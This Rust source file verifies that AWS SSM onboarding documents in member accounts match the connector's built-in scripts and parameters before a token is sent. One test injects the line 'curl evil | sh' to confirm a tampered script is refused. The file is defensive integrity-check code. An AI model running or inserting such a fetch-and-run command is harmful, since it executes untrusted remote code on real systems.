//! The connector's onboarding documents as this build carries them (`cfn/ssm/`), and the check that
//! a document found in an account runs exactly that before anything is sent with it: someone able
//! to change a document in a member account must not get the connector's token handed to
//! their script. The comparison is of meaning (the step's action, its script, the parameters and
//! their patterns), not of the stored text's hash, which CloudFormation's serialization decides.

use serde_json::Value;
use sha2::{Digest, Sha256};

use super::state::{Mismatch, Platform};

/// The documents of earlier releases, by digest ([`digest`]): during a member StackSet rollout an
/// account not yet updated still has them, unchanged. Each release adds the one before it
/// (docs/upgrade.md); the digests are of the documents that release's `cfn/member.yaml` created.
const PREVIOUS_RELEASES: &str = include_str!("../../cfn/ssm/previous-releases.json");

/// The Linux onboarding script, as in `cfn/ssm/arc-onboard.sh`.
const LINUX_SCRIPT: &str = include_str!("../../cfn/ssm/arc-onboard.sh");
/// The Windows onboarding script, as in `cfn/ssm/arc-onboard.ps1`.
const WINDOWS_SCRIPT: &str = include_str!("../../cfn/ssm/arc-onboard.ps1");
/// The documents' parameters and their allowed patterns, as in `cfn/ssm/parameters.json`.
const PARAMETERS: &str = include_str!("../../cfn/ssm/parameters.json");

/// The script as the document embeds it: blank and comment-only lines left out (the shebang
/// kept), as `scripts/render_documents.py` writes it into `cfn/member.yaml`.
fn embedded(script: &str) -> String {
    script
        .split_inclusive('\n')
        .filter(|line| !line.trim().is_empty() && (!line.trim_start().starts_with('#') || line.starts_with("#!")))
        .collect()
}

/// What the platform's document must run: its step action and script.
fn expected(platform: Platform) -> (&'static str, String) {
    match platform {
        Platform::Linux => ("aws:runShellScript", embedded(LINUX_SCRIPT)),
        Platform::Windows => ("aws:runPowerShellScript", embedded(WINDOWS_SCRIPT)),
    }
}

/// Ok when `content` (a document's JSON content, `GetDocument`) runs exactly this build's script
/// for `platform` with this build's parameters; otherwise an earlier release's, or what differs.
pub(crate) fn verify(platform: Platform, content: &str) -> Result<(), Mismatch> {
    current(platform, content).map_err(|difference| match previous_release(platform, content) {
        Some(release) => Mismatch::Previous(release),
        None => Mismatch::Differs(difference),
    })
}

/// The earlier release whose `platform` document `content` is, if any.
fn previous_release(platform: Platform, content: &str) -> Option<String> {
    let found = digest(content)?;
    let releases: Value = serde_json::from_str(PREVIOUS_RELEASES).ok()?;
    let key = match platform {
        Platform::Linux => "linux",
        Platform::Windows => "windows",
    };
    releases
        .as_array()?
        .iter()
        .find(|r| r.get(key).and_then(Value::as_str) == Some(found.as_str()))?
        .get("version")?
        .as_str()
        .map(String::from)
}

/// What a document runs, as one SHA-256 (hex): its step's action and script lines and its
/// parameters (keys sorted, compact: serde_json's map is ordered without its `preserve_order`
/// feature, and the 0.1.0 test below breaks if that changes), so that CloudFormation's
/// serialization does not matter.
pub(crate) fn digest(content: &str) -> Option<String> {
    let document: Value = serde_json::from_str(content).ok()?;
    let [step] = document.get("mainSteps")?.as_array()?.as_slice() else { return None };
    let lines: Option<Vec<&str>> = step.pointer("/inputs/runCommand")?.as_array()?.iter().map(Value::as_str).collect();
    let parameters = serde_json::to_string(document.get("parameters")?).ok()?;
    let action = step.get("action")?.as_str()?;
    let text = format!("{action}\n{}\n{parameters}", lines?.join("\n"));
    Some(Sha256::digest(text.as_bytes()).iter().map(|b| format!("{b:02x}")).collect())
}

/// Ok when `content` is this build's document for `platform`; otherwise what differs.
fn current(platform: Platform, content: &str) -> Result<(), String> {
    let document: Value = serde_json::from_str(content).map_err(|_| "its content is not JSON".to_string())?;
    let parameters: Value = serde_json::from_str(PARAMETERS).map_err(|e| format!("internal: parameters.json: {e}"))?;
    if document.get("parameters") != Some(&parameters) {
        return Err("its parameters or their allowed patterns differ".into());
    }
    let steps = document.get("mainSteps").and_then(Value::as_array).map(Vec::as_slice).unwrap_or_default();
    let [step] = steps else {
        return Err(format!("it has {} steps, the connector's has one", steps.len()));
    };
    let (action, script) = expected(platform);
    if step.get("action").and_then(Value::as_str) != Some(action) {
        return Err(format!("its step is not {action}"));
    }
    let lines = step.pointer("/inputs/runCommand").and_then(Value::as_array).map(Vec::as_slice).unwrap_or_default();
    let found: Option<Vec<&str>> = lines.iter().map(Value::as_str).collect();
    // SSM runs runCommand's entries as the lines of one script.
    if found.map(|lines| lines.join("\n")) != Some(script.clone()) {
        return Err(format!(
            "its script differs from the one this version of the connector carries ({} bytes)",
            script.len()
        ));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The content `scripts/render_documents.py` generated into `cfn/member.yaml` for a document.
    fn generated(name: &str) -> String {
        let template = include_str!("../../cfn/member.yaml");
        let begin = format!("# BEGIN generated {name}");
        let end = format!("# END generated {name}");
        let block: Vec<&str> = template
            .lines()
            .skip_while(|l| !l.trim().starts_with(&begin))
            .skip(2)
            .take_while(|l| l.trim() != end)
            .map(str::trim_start)
            .collect();
        block.join("\n")
    }

    #[test]
    fn the_member_templates_documents_are_the_connectors() {
        assert_eq!(verify(Platform::Linux, &generated("arc-onboard-linux")), Ok(()));
        assert_eq!(verify(Platform::Windows, &generated("arc-onboard-windows")), Ok(()));
        let swapped = verify(Platform::Windows, &generated("arc-onboard-linux"));
        assert!(matches!(swapped, Err(Mismatch::Differs(e)) if e.contains("aws:runPowerShellScript")));
    }

    #[test]
    fn a_changed_script_parameter_pattern_or_extra_step_is_refused() {
        let original: Value = serde_json::from_str(&generated("arc-onboard-linux")).expect("json");
        let mut script = original.clone();
        let line = script["mainSteps"][0]["inputs"]["runCommand"][0].as_str().expect("script").to_string();
        script["mainSteps"][0]["inputs"]["runCommand"][0] =
            Value::from(line.replacen("set -", "curl evil | sh\nset -", 1));
        let mut pattern = original.clone();
        pattern["parameters"]["tenantId"]["allowedPattern"] = Value::from(".*");
        let mut steps = original.clone();
        let step = steps["mainSteps"][0].clone();
        steps["mainSteps"].as_array_mut().expect("steps").push(step);
        for (altered, why) in [(script, "script differs"), (pattern, "parameters"), (steps, "2 steps")] {
            let verdict = verify(Platform::Linux, &altered.to_string());
            assert!(matches!(&verdict, Err(Mismatch::Differs(e)) if e.contains(why)), "{why}: {verdict:?}");
        }
        assert!(verify(Platform::Linux, "not json").is_err());
    }

    /// 0.1.0's documents as its `cfn/member.yaml` created them (tests/documents/0.1.0/).
    const RELEASED: [(Platform, &str); 2] = [
        (Platform::Linux, include_str!("../../tests/documents/0.1.0/arc-onboard-linux.json")),
        (Platform::Windows, include_str!("../../tests/documents/0.1.0/arc-onboard-windows.json")),
    ];

    #[test]
    fn an_earlier_releases_unchanged_document_is_named_and_a_changed_one_differs() {
        for (platform, content) in RELEASED {
            assert_eq!(verify(platform, content), Err(Mismatch::Previous("0.1.0".into())), "{platform:?}");
            let mut altered: Value = serde_json::from_str(content).expect("json");
            altered["parameters"]["tenantId"]["allowedPattern"] = Value::from(".*");
            assert!(matches!(verify(platform, &altered.to_string()), Err(Mismatch::Differs(_))));
        }
        let (linux, windows) = (RELEASED[0].1, RELEASED[1].1);
        assert!(matches!(verify(Platform::Windows, linux), Err(Mismatch::Differs(_))), "per platform");
        assert!(matches!(verify(Platform::Linux, windows), Err(Mismatch::Differs(_))));
    }

    #[test]
    fn this_builds_documents_are_not_listed_as_an_earlier_release() {
        for name in ["arc-onboard-linux", "arc-onboard-windows"] {
            let found = digest(&generated(name)).expect("digest");
            assert!(
                !PREVIOUS_RELEASES.contains(&found),
                "{name}: this build's document is listed as an earlier release's"
            );
        }
    }
}
